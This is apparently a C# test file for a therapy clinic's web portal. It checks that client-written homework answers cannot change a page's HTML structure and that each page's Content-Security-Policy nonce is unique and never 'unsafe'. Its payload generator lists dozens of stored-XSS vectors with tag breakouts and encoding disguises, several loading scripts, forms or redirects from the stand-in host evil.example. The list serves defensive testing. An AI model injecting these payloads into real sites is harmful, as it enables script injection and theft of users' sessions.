using System.Text;
using System.Text.RegularExpressions;
using AngleSharp.Dom;
using Clinic.Tests.Support;
using Clinic.Web.Setup;

namespace Clinic.Tests.Scenarios;

/// <summary>What a client writes is text on every page that shows it: the page has the very elements and attributes that it has with harmless words.</summary>
public sealed partial class StoredScriptTests(StorageProvider provider) : OpenDoorScenario(provider)
{
    [Test]
    public async Task No_words_become_part_of_a_page()
    {
        var (count, changed, pages) = (Counts.Of(24, 1_000), new List<string>(), 0);
        var desk = await Portal.SignInAsync();
        await ShapesAsync(desk, "the first to be read", "so that all others have one before them");
        var plain = await ShapesAsync(desk, "harmless words", "harmless words");
        foreach (var pair in Payloads().Distinct().Take(count).Chunk(2))
        {
            var shapes = await ShapesAsync(desk, pair[0], pair[^1]);
            pages += shapes.Count;
            changed.AddRange(plain.Where(p => shapes[p.Key] != p.Value).Select(p => $"{p.Key}: {pair[0]} / {pair[^1]}"));
        }

        Counts.Say("H2", $"{count} payloads as answers, {pages} pages of client and therapist that show them, {changed.Count} with another shape than with harmless words");
        Assert.That(changed, Is.Empty);
        Assert.That(pages, Is.GreaterThanOrEqualTo(count));
    }

    [Test]
    public async Task No_two_pages_have_the_same_nonce()
    {
        var count = Counts.Of(500, 100_000);
        var (browser, nonces) = (Portal.NewBrowser(), new HashSet<string>());
        for (var n = 0; n < count; n++)
        {
            using var answer = await browser.RequestAsync(HttpMethod.Get, "/h");
            var policy = string.Join(' ', answer.Headers.GetValues("Content-Security-Policy"));
            Assert.That(policy, Does.Not.Contain("unsafe"));
            nonces.Add(Nonce().Match(policy).Groups[1].Value);
        }

        Counts.Say("H2", $"{count} pages, {count - nonces.Count} nonces twice, none unsafe-inline or unsafe-eval");
        Assert.That(nonces, Has.Count.EqualTo(count).And.All.Length.GreaterThanOrEqualTo(20));
    }

    private async Task<Dictionary<string, string>> ShapesAsync(Browser desk, string first, string second)
    {
        var sent = await SendAsync(await Portal.EnrolClientAsync(new Enrolment { Email = $"{Guid.NewGuid():N}@mail.example" }), Portal.TenQuestions);
        var phone = await OpenAsync(sent);
        Assert.That((await SaveAsync(phone, sent, 1, first)).Status, Is.EqualTo(200), first);
        Assert.That((await SaveAsync(phone, sent, 2, second)).Status, Is.EqualTo(200), second);
        var shapes = new Dictionary<string, string>();
        foreach (var (name, url) in new[] { ("question", sent.QuestionUrl(1)), ("all questions", $"/homework/{sent.Homework}/questions/{sent.Items[0]}/all"), ("check", sent.CheckUrl) })
            shapes[name] = ShapeOf(await phone.OpenAsync(url));
        await Portal.SubmitAsync(sent.Homework);
        shapes["own words"] = ShapeOf(await phone.OpenAsync($"/homework/{sent.Homework}/words"));
        shapes["review"] = ShapeOf(await desk.OpenAsync($"/assignments/{sent.Homework}/review"));
        return shapes;
    }

    /// <summary>Elements and the names of their attributes, in order; what they hold is left out.</summary>
    private static string ShapeOf(Page page)
    {
        var shape = new StringBuilder($"{page.Status}");
        foreach (var element in page.Document.All)
            shape.Append(' ').Append(element.LocalName).Append(element.Attributes.Length > 0 ? $"[{string.Join(',', element.Attributes.Select(a => a.Name))}]" : "");
        return shape.ToString();
    }

    private static IEnumerable<string> Payloads()
    {
        string[] breakouts = ["", "\">", "'>", "</textarea>", "</blockquote>", "</title>", "</script>", "-->", "]]>", "`>"];
        string[] tags =
        [
            "<script>alert(1)</script>", "<script src=//evil.example/x.js></script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<iframe srcdoc='<script>alert(1)</script>'>",
            "<a href=javascript:alert(1)>x</a>", "<body onload=alert(1)>", "<form action=//evil.example><button>x</button></form>", "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=//evil.example'>",
            "<link rel=stylesheet href=//evil.example/x.css>", "<style>@import '//evil.example/x.css'</style>", "<math><mi xlink:href=data:text/html,x>", "<object data=data:text/html,x>", "<embed src=//evil.example>",
            "<details open ontoggle=alert(1)>", "<input autofocus onfocus=alert(1)>", "<video><source onerror=alert(1)>", "<template><script>alert(1)</script></template>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
            "<marquee onstart=alert(1)>", "<isindex action=javascript:alert(1)>", "<table background=javascript:alert(1)>", "[x](javascript:alert(1))",
        ];
        string[] disguises = ["{0}", "&lt;{0}&gt;", "{0}\u2028x", "\u0000{0}"];
        return from disguise in disguises from breakout in breakouts from tag in tags select string.Format(System.Globalization.CultureInfo.InvariantCulture, disguise, breakout + tag);
    }

    [GeneratedRegex("'nonce-([^']+)'")]
    private static partial Regex Nonce();
}
